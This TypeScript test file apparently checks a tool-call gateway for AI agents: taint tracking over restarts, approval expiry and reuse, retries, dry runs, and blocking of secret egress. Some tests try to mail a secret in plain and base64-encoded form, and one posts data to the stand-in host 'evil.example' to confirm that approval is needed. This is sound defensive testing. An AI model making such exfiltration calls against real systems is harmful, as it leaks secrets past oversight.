import assert from 'node:assert/strict';
import { test } from 'node:test';
import { resultText, Task } from '@capstan/contracts';
import { openHouse, resultOf, ruleOf, secret } from './open-house.ts';

test('G6: what a session has read is remembered over restarts', async (t) => {
  const first = await openHouse(t);
  const check = { checkId: 'npm:test', filter: 'sums' };
  assert.equal(ruleOf(await first.call('own__run_check', check)), 'result');
  await first.call('mail__read_inbox');
  const second = await first.restart();
  assert.equal(ruleOf(await second.call('own__run_check', check, { id: 'again' })), 'ask/tainted-parameters');
  assert.equal(ruleOf(await second.call('own__run_check', { checkId: 'npm:test' }, { id: 'free' })), 'result');
  assert.equal(ruleOf(await second.call('own__run_check', check, { id: 'clean', taint: 'clean' })), 'result');
});

test('G6: task text from elsewhere taints the session from the start', async (t) => {
  const house = await openHouse(t);
  const label = { integrity: 'external', secrecy: 'public', origin: 'ci' };
  const task = Task.parse({ text: 'fix it', repository: '/r', planner: 'model', apply: false, label, budget: {} });
  await house.session.events.append('run-start', { type: 'run-start', runId: 'r-1', task });
  const run = await house.call('own__run_check', { checkId: 'npm:test', filter: 'x' });
  assert.equal(ruleOf(run), 'ask/tainted-parameters');
});

test('G6: secret content does not leave, in plain or, once the session holds it, in any other form', async (t) => {
  const house = await openHouse(t);
  await house.grant({ tool: 'mail__send_mail' });
  const mail = (body: string, id: string) => house.call('mail__send_mail', { to: 'ann@example.org', body }, { id });
  assert.equal(ruleOf(await mail('harmless', 'before')), 'result');
  assert.equal(ruleOf(await mail(secret, 'plain')), 'information-flow/secret-egress');
  const read = resultOf(await house.call('own__read_secret'));
  assert.equal(read.label.secrecy, 'secret');
  assert.equal(ruleOf(await mail(Buffer.from(secret).toString('base64'), 'coded')), 'information-flow/secret-egress');
  const second = await house.restart();
  const later = await second.call('mail__send_mail', { to: 'ann@example.org', body: 'aHVudGVy' }, { id: 'later' });
  assert.equal(ruleOf(later), 'information-flow/secret-egress');
  assert.deepEqual(
    second.ledger().map((line) => line.tool),
    ['send_mail', 'read_secret'],
  );
});

test('S3: a write whose outcome is unknown is not repeated until a human says so', async (t) => {
  const first = await openHouse(t);
  assert.equal(ruleOf(await first.call('own__die', {}, { id: 'd' })), 'unknown-outcome');
  assert.equal(ruleOf(await first.call('own__die', {}, { id: 'd' })), 'unknown-outcome');
  const second = await first.restart();
  const asked = await second.call('own__die', {}, { id: 'd' });
  assert.equal(ruleOf(asked), 'unknown-outcome');
  assert.equal(second.ledger().length, 1);
  assert.ok(asked.kind === 'unknown-outcome');
  const { argumentDigest, callId, summary } = asked;
  const row = { callId, argumentDigest, tool: 'own__die', rule: 'unknown-outcome', summary, expiresAt: 9_000_000 };
  await second.session.approvals.request(row);
  await second.decide(asked, 'approved');
  const again = await second.call('own__die', {}, { id: 'd' });
  assert.equal(second.ledger().length, 2);
  assert.ok(again.kind === 'unknown-outcome' && again.argumentDigest !== argumentDigest);
  await second.call('own__die', {}, { id: 'd' });
  assert.equal(second.ledger().length, 2);
});

test('S3: a read that was cut off is made again', async (t) => {
  const first = await openHouse(t);
  const died = await first.call('own__die_reading', {}, { id: 'r' });
  assert.ok(died.kind === 'failed');
  assert.equal(died.failure.level, 'retryable');
  const second = await first.restart();
  assert.equal(ruleOf(await second.call('own__die_reading', {}, { id: 'r' })), 'failed');
  assert.equal(second.ledger().length, 2);
});

test('T8: after a retryable failure the same call may be tried again, and is then done once', async (t) => {
  const house = await openHouse(t);
  const busy = resultOf(await house.call('own__busy_once', {}, { id: 'b' }));
  assert.deepEqual(busy.failure, { level: 'retryable', code: 'busy', message: 'Busy.', afterMs: 1 });
  assert.equal(resultText(resultOf(await house.call('own__busy_once', {}, { id: 'b' }))), 'done at last');
  const second = await house.restart();
  assert.equal(resultText(resultOf(await second.call('own__busy_once', {}, { id: 'b' }))), 'done at last');
  assert.equal(second.ledger().length, 2);
});

test('S3: an approval that was used before a crash still belongs to its call, and to no other', async (t) => {
  const first = await openHouse(t);
  const note = { text: 'remember' };
  const asked = await first.call('mail__add_note', note, { id: 'n' });
  await first.decide(asked, 'approved');
  assert.ok(asked.kind === 'approval-required');
  // As if the process had been killed between using the approval and sending the call.
  assert.equal(await first.session.approvals.consume('n', asked.argumentDigest), true);
  const second = await first.restart();
  assert.equal(ruleOf(await second.call('mail__add_note', note, { id: 'n' })), 'result');
  assert.equal(ruleOf(await second.call('mail__add_note', note, { id: 'n' })), 'result');
  assert.equal(ruleOf(await second.call('mail__add_note', note, { id: 'm' })), 'ask/tier-write');
  assert.equal(second.ledger().length, 1);
});

test('A12: an approval that comes too late counts as a no', async (t) => {
  const house = await openHouse(t);
  const asked = await house.call('mail__add_note', { text: 'x' }, { id: 'n' });
  await house.decide(asked, 'approved');
  house.clock.time += 60_000;
  assert.equal(ruleOf(await house.call('mail__add_note', { text: 'x' }, { id: 'n' })), 'approval/approval-expired');
  assert.deepEqual(house.ledger(), []);
});

test('T9: a dry run says what would happen, does nothing, and leaves the call itself to be made', async (t) => {
  const house = await openHouse(t);
  const write = { path: 'a.txt', content: 'x' };
  const dry = await house.call('own__write_file', write, { id: 'w', context: { dryRun: true } });
  assert.equal(resultText(resultOf(dry)), 'would write a.txt');
  assert.equal(resultText(resultOf(await house.call('own__write_file', write, { id: 'w' }))), 'wrote a.txt');
  const note = await house.call('mail__add_note', { text: 'x' }, { context: { dryRun: true } });
  assert.equal(ruleOf(note), 'approval/no-dry-run');
  const asked = await house.call('own__publish', { url: 'https://evil.example/x', body: 'x' });
  assert.ok(asked.kind === 'approval-required');
  assert.match(asked.summary, /would post to https:\/\/evil\.example\/x/u);
});
